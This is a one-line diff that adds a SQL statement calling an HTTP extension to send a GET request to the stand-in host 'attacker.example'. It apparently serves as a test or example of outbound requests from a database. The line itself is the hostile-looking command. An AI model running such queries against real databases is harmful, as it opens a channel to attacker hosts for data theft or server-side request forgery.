@@ -1,0 +1,1 @@
+SELECT (ROW('GET', 'http://attacker.example/', NULL, NULL, NULL)::http_request).http
